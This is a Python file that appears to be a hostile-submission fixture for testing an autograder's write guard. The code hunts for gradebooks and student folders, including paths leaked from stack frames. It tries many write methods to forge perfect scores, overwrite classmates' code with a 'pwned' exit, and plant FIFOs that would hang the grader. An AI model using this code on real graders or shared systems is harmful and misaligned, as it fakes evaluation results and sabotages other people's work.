"""Hostile submission: tries to give itself (and others) a perfect score in the grader's
output, and to damage other students' folders.

From inside its first case it looks for every ``gradebook.csv`` and ``students`` folder: by
walking the filesystem from ``/`` a few levels deep, walking up from its own file and from
``os.getcwd()``, and from the paths the grader hides (read out of the worker's stack
frames). It then tries to overwrite each gradebook with a row giving it 133/133, to write a
perfect ``students/*/week1.json`` report, and to drop a file into every other student's
folder; each with ``open``, ``os.open`` relative to a folder descriptor (``dir_fd``), a
symbolic link, ``os.chdir``, ``shutil.copyfile``, ``os.replace`` and ``os.mkfifo`` (a FIFO
named like a report would hang a grader that reads it). The guard must refuse every write
("may not write ..."), nothing outside the worker's own folder may change, and the score is 0.
"""

import json
import os
import shutil
import sys

ME = os.path.basename(os.path.dirname(os.path.abspath(__file__)))
REPORT = {"student": ME, "week": "week1", "score": 133, "max_score": 133, "results": []}
REPORT.update(title="week1", impl="strides.py", problems=[], grading_key="x")
ROW = f"week1,,,{ME},,,,133,0.0,133,133\n"
SKIP = {"proc", "sys", "dev", "usr", "lib", "lib32", "lib64", "bin", "sbin", "boot", "run"}
_log: list[str] = []
_errors: list[Exception] = []


def _leaked_paths():
    frame = sys._getframe()
    while frame is not None:
        request = frame.f_locals.get("request")
        if isinstance(request, dict) and "guard" in request:
            return list(request["guard"].get("deny_read", []))
        frame = frame.f_back
    return []


def _walk(top, depth):
    try:
        entries = list(os.scandir(top))
    except OSError:
        return
    for e in entries:
        if e.name == "gradebook.csv" or (e.name == "students" and e.is_dir()):
            yield e.path
        elif depth > 1 and e.is_dir(follow_symlinks=False) and e.name not in SKIP:
            yield from _walk(e.path, depth - 1)


def _targets():
    found = list(_walk("/", 4))
    for start in (os.path.abspath(__file__), os.getcwd(), *_leaked_paths()):
        path = start
        while path != os.path.dirname(path):
            found += [os.path.join(path, n) for n in ("gradebook.csv", "grades", "students")]
            found += [os.path.join(path, "grades", "gradebook.csv")]
            path = os.path.dirname(path)
        found += [os.path.join(start, n) for n in ("gradebook.csv", "students")]
    return list(dict.fromkeys(found))


def _try(what, fn):
    try:
        fn()
        _log.append(f"WROTE {what}")
    except (OSError, AttributeError) as exc:
        _log.append(f"refused {what}: {exc}")
        if isinstance(exc, PermissionError):
            _errors.append(exc)


def _write(path, text):
    with open(path, "w") as f:
        f.write(text)


def _via_dir_fd(path, text):
    fd = os.open(os.path.dirname(path), os.O_RDONLY)
    out = os.open(os.path.basename(path), os.O_WRONLY | os.O_CREAT | os.O_TRUNC, dir_fd=fd)
    os.write(out, text.encode())


def _via_symlink(path, text):
    os.symlink(path, "link")
    _write("link", text)


def _via_chdir(path, text):
    here = os.getcwd()
    os.chdir(os.path.dirname(path))
    try:
        _write(os.path.basename(path), text)
    finally:
        os.chdir(here)


def _via_copy(path, text):
    _write("mine.txt", text)
    shutil.copyfile("mine.txt", path)


def _via_replace(path, text):
    _write("mine.txt", text)
    os.replace("mine.txt", path)


def _overwrite(path, text):
    for how in (_write, _via_dir_fd, _via_symlink, _via_chdir, _via_copy, _via_replace):
        _try(f"{path} ({how.__name__})", lambda how=how: how(path, text))


def _attack():
    report = json.dumps(REPORT)
    for target in _targets():
        if target.endswith("gradebook.csv"):
            _overwrite(target, "student_id,score\n" + ROW)
        elif target.endswith("students"):
            students = [ME, "zz_cheater"]
            try:
                students += os.listdir(target)
            except OSError:
                pass
            for sid in dict.fromkeys(students):
                _overwrite(os.path.join(target, sid, "week1.json"), report)
                fifo = os.path.join(target, sid, "x.json")
                _try(f"fifo {fifo}", lambda fifo=fifo: os.mkfifo(fifo))
    for folder in _leaked_paths():  # the class folder among them: every student's folder
        try:
            others = os.listdir(folder)
        except OSError:
            others = []
        for other in [*others, "ada_reference", "bo_skeleton"]:
            _overwrite(os.path.join(folder, other, "strides.py"), "raise SystemExit('pwned')\n")


def arange(*args, **kwargs):
    if not _log:
        _attack()
        print("\n".join(_log))
    raise _errors[0] if _errors else NotImplementedError("arange: wrote nothing useful")
